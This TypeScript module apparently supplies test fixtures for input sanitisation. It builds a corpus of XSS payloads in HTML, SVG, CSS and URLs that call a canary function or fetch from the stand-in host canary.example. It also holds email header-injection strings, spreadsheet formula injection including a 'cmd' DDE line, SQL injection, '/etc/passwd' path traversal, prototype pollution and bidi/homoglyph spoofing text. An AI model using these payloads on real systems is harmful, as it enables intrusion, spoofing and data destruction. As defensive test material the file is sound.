/**
 * Words that want to be more than words. Whoever they get the better of calls `__pwned`, or asks for
 * an address with `canary` in it: a test that shows them anywhere looks out for both.
 */

export interface Payload {
  /** Letters and hyphens; what the canary is told. */
  name: string;
  text: string;
}

/** The function that a payload calls when it runs. It is told the payload's name. */
export const CANARY = '__pwned';

/** Whatever a payload fetches has this in its address. */
export const CANARY_PATH = 'canary';

/** A host that nothing of ours has any business with. */
export const FOREIGN = 'canary.example';

/** A call without quotes or spaces, fit for any attribute. */
const run = (name: string): string => `${CANARY}(/${name}/)`;

const get = (name: string): string => `https://${FOREIGN}/${CANARY_PATH}?${name}`;

function made(texts: Readonly<Record<string, (name: string) => string>>): Payload[] {
  return Object.entries(texts).map(([name, textOf]) => ({ name, text: textOf(name) }));
}

/** Run, or fetch something, where they are taken for HTML, CSS or script. */
const MARKUP: readonly Payload[] = made({
  script: (name) => `<script>${run(name)}</script>`,
  'script-src': (name) => `<script src="${get(name)}"></script>`,
  'script-case': (name) => `<ScRiPt >${run(name)}</sCrIpT\t>`,
  'script-nested': (name) => `<scr<script>ipt>${run(name)}</scr</script>ipt>`,
  'script-module': (name) => `<script type=module>import "${get(name)}"</script>`,
  'img-onerror': (name) => `<img src=x onerror=${run(name)}>`,
  'img-fetch': (name) => `<img src="${get(name)}" srcset="/${CANARY_PATH}?${name} 2x">`,
  'img-unclosed': (name) => `<img src=x onerror=${run(name)} `,
  'img-backtick': (name) => `<img src=\`x\`onerror=${run(name)}>`,
  'svg-onload': (name) => `<svg/onload=${run(name)}>`,
  'svg-script': (name) => `<svg><script>${run(name)}</script></svg>`,
  'svg-animate': (name) => `<svg><animate onbegin=${run(name)} attributeName=x dur=1s></svg>`,
  'svg-use': (name) => `<svg><use href="${get(name)}#x"/></svg>`,
  'iframe-srcdoc': (name) => `<iframe srcdoc="<script>parent.${run(name)}</script>"></iframe>`,
  'iframe-javascript': (name) => `<iframe src="javascript:parent.${run(name)}"></iframe>`,
  'object-data': (name) => `<object data="data:text/html,<script>top.${run(name)}</script>">`,
  'details-ontoggle': (name) => `<details open ontoggle=${run(name)}>x</details>`,
  'input-autofocus': (name) => `<input autofocus onfocus=${run(name)}>`,
  'video-source': (name) => `<video><source onerror=${run(name)}></video>`,
  'marquee-onstart': (name) => `<marquee onstart=${run(name)}>x</marquee>`,
  'form-action': (name) => `<form action="javascript:${run(name)}"><button>Send</button></form>`,
  'meta-refresh': (name) => `<meta http-equiv=refresh content="0;url=${get(name)}">`,
  'base-href': () => `<base href="https://${FOREIGN}/"><link rel=icon href=${CANARY_PATH}>`,
  'link-style': (name) => `<link rel=stylesheet href="${get(name)}">`,
  'style-import': (name) => `<style>@import "${get(name)}";*{background:url(${get(name)})}</style>`,
  'style-attribute': (name) => `<p style="background:url(${get(name)});position:fixed;inset:0">x`,
  template: (name) => `<template shadowrootmode=open><img src onerror=${run(name)}></template>`,
  'quote-double': (name) => `"><img src onerror=${run(name)}><a href="`,
  'quote-single': (name) => `'><img src onerror=${run(name)}><a href='`,
  'quote-handler': (name) => `" autofocus onfocus=${run(name)} x="`,
  'close-title': (name) => `</title><script>${run(name)}</script>`,
  'close-textarea': (name) => `</textarea></option></select><script>${run(name)}</script>`,
  'close-style': (name) => `</style></noscript></iframe><script>${run(name)}</script>`,
  'close-template': (name) => `</template></xmp></plaintext><script>${run(name)}</script>`,
  'close-script': (name) => `</script><script>${run(name)}//`,
  'close-comment': (name) => `--><!-- --!><script>${run(name)}</script><!--`,
  'open-comment': (name) => `<!--<script>${run(name)}</script>`,
  cdata: (name) => `<![CDATA[><script>${run(name)}</script>]]>`,
  'mutation-noscript': (name) => `<noscript><p title="</noscript><img src onerror=${run(name)}>">`,
  'mutation-math': (name) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${run(name)}&gt;">`,
  'mutation-select': (name) => `<svg></p><style><a id="</style><img src onerror=${run(name)}>">`,
  entities: (name) =>
    `&lt;img src=x onerror=${run(name)}&gt;&#60;script&#62;${run(name)}&#x3c;/script>`,
  'entities-double': (name) => `&amp;lt;script&amp;gt;${run(name)}&amp;lt;/script&amp;gt;`,
  percent: (name) => `%3Cscript%3E${run(name)}%3C/script%3E`,
  'json-break': (name) => `"},"x":{"y":"</script><!--<script>\u2028${run(name)}\u2029//`,
  'string-break': (name) => `';${run(name)};'";${run(name)};"\\';${run(name)}//`,
  'template-literal': (name) => `\${${run(name)}}\`;${run(name)};\`#{${run(name)}}`,
  'template-braces': (name) => `{{7*7}}{{constructor.constructor('${run(name)}')()}}<%= 7*7 %>`,
  'null-tag': (name) => `<\0script>${run(name)}</\0script><img\0 src onerror=${run(name)}>`,
  'utf-seven': (name) => `+ADw-script+AD4-${run(name)}+ADw-/script+AD4-`,
  'wide-brackets': (name) => `\uff1cscript\uff1e${run(name)}\uff1c/script\uff1e\u02c2img\u02c3`,
  'markdown-image': (name) => `![x](${get(name)}) [x](javascript:${run(name)}) <${get(name)}>`,
});

/** Addresses that no link of ours may lead to, and none may be fetched. */
export const ADDRESSES: readonly Payload[] = made({
  'url-javascript': (name) => `javascript:${run(name)}//https://shop.example/`,
  'url-javascript-case': (name) => `\u0001 jAvA\tScRiPt\n:${run(name)}`,
  'url-javascript-host': (name) => `javascript://shop.example/%0a${run(name)}`,
  'url-javascript-entity': (name) => `javascript&colon;${run(name)}&#106;avascript&#58;`,
  'url-data': (name) => `data:text/html,<script>opener.${run(name)}</script>`,
  'url-vbscript': (name) => `vbscript:${run(name)}`,
  'url-blob': (name) => `blob:https://${FOREIGN}/${CANARY_PATH}?${name}`,
  'url-break': (name) =>
    `https://${FOREIGN}/"onmouseover="${run(name)}"><img src onerror=${run(name)}>`,
  'url-slashes': (name) => `\\\\${FOREIGN}\\${CANARY_PATH}?${name}`,
});

/** Would be a header, or a mail of its own, where a line break got through. */
export const HEADERS: readonly Payload[] = made({
  'header-crlf': () => `Hi\r\nBcc: victim@${FOREIGN}\r\n\r\n<h1>Another mail</h1>`,
  'header-lf': () => `Hi\nTo: victim@${FOREIGN}\nContent-Type: text/html`,
  'header-cr': () => `Hi\rCc: victim@${FOREIGN}\rX-Evil: yes`,
  'header-folded': () => `Hi\r\n\tBcc: victim@${FOREIGN}\r\n Reply-To: victim@${FOREIGN}`,
  'header-separators': () => `Hi\u2028Bcc: victim@${FOREIGN}\u2029Cc: x\u0085To: y\vBcc: z\fBcc: z`,
  'header-percent': () => `Hi%0d%0aBcc:%20victim@${FOREIGN}\\r\\nBcc: victim@${FOREIGN}`,
  'header-encoded-word': () => `=?utf-8?Q?Hi=0D=0ABcc:_victim@${FOREIGN}?= =?utf-8?B?DQpCY2M6?=`,
  'header-nul': () => `Hi\0\r\n\0Bcc: victim@${FOREIGN}`,
  'header-boundary': () => `\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>\r\n.\r\n`,
  'header-mailbox': () => `"Eve" <victim@${FOREIGN}>, other@${FOREIGN};`,
});

const ZALGO_MARKS = '\u0300\u0316\u0334\u0489\u20dd';

/** Means to break what stands around it: its direction, its width, or its encoding. */
const TEXTS: readonly Payload[] = made({
  'bidi-override': () => 'invoice \u202egnp.exe\u202d end',
  'bidi-unclosed': () => 'open \u202b\u202a\u202e\u2067\u2066\u2068 and never closed',
  'bidi-marks': () => 'a\u200f\u200e\u061c) b (\u200fc',
  rtl: () => 'שלום <b>עולם</b> (1) https://shop.example/שלום! مرحبا 123 بالعالم',
  'zero-width': () => 'ja\u200bva\u200csc\u200dri\u2060pt\ufeff:alert\u00ad(1)\u180e',
  'zalgo-storm': () => [...'The horde waits'].map((one) => one + ZALGO_MARKS.repeat(12)).join(''),
  // Hundreds of marks on one letter are one sign, which no line can break.
  'pile-of-marks': () => `a${ZALGO_MARKS.repeat(250)}`,
  'lone-high-surrogate': () => 'half \ud83d of an emoji',
  'lone-low-surrogate': () => 'the other \udc4b half \udfff\ud800',
  noncharacters: () => 'a\uffff\ufffe\ufdd0\u{1ffff}\ufffdz',
  'long-word': () => `W${'W'.repeat(1_500)}`,
  'long-address': () => `https://shop.example/${'a'.repeat(1_000)}`,
  'long-marks': () => `${'\u{1f468}\u200d'.repeat(200)}\u{1f4bb}`,
  'thin-lines': () => `a${'\nb'.repeat(60)}`,
  homoglyphs: () => 'Аcme Outdооr ѕuрроrt: рayраl.com аdmіn Βaton',
  emoji: () => '👩‍👩‍👧‍👦🏳️‍🌈👋🏽🇳🇴🇳1️⃣❤️‍🔥🫱🏻‍🫲🏿',
  controls: () => 'a\u0001\u0007\b\u001b[2J\u001b]0;x\u0007\u007f\u009b31mz',
  terminal: () => '\u001b]8;;https://canary.example\u001b\\press\u001b]8;;\u001b\\',
  formula: () => `=HYPERLINK("https://${FOREIGN}/${CANARY_PATH}","x")`,
  'formula-plus': () => "+1+cmd|' /C calc'!A0",
  'formula-minus': () => '-2+3\n=1+1\n\t=1+1\r@SUM(1)',
  'formula-at': () => '@SUM(1+1)*cmd|',
  prototype: () => '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
  'own-words': () => 'Robin joined the chat. The team has been notified. You have it',
  'sql-break': () => `'); DROP TABLE article;-- " OR 1=1 MATCH * NEAR( ^`,
  'path-break': () => '../../../etc/passwd\\..\\..%2e%2e%2f',
});

/** All of them. */
export const CORPUS: readonly Payload[] = [...MARKUP, ...ADDRESSES, ...HEADERS, ...TEXTS];

/** Addresses of the sort that a careless check takes for ones, and that are none. */
export const BAD_ADDRESSES: readonly string[] = [
  `a@b.example\r\nBcc: victim@${FOREIGN}`,
  `a@b.example, victim@${FOREIGN}`,
  `a@b.example;victim@${FOREIGN}`,
  `Eve <a@b.example>`,
  `"a b"@b.example`,
  `<img/src/onerror=${run('address')}>@b.example`,
  'a@b.example\0',
  'a\u202e@b.example',
  'a@b.example%0d%0aBcc:x',
  `a@b.example?bcc=victim@${FOREIGN}`,
  `${'a'.repeat(250)}@b.example`,
  '=1+1',
  'bcc=victim@b.example',
];

/** Odd ones that are addresses all the same, and must do no harm as such. */
export const ODD_ADDRESSES: readonly string[] = [
  `o'onfocus'${CANARY}@b.example`,
  '+sum@b.example',
  '-1@b.example',
  'bcc+to_victim@b.example',
  '__proto__@constructor.example',
];

/**
 * What is left of a text wherever it is shown: half a character and NUL have no picture of their own, or a
 * made-up one, and a page knows one kind of line break.
 */
export function asShown(text: string): string {
  return text
    .toWellFormed()
    .replaceAll(/\r\n?/g, '\n')
    .replaceAll(/[\0\ufffd]/g, '')
    .trim();
}
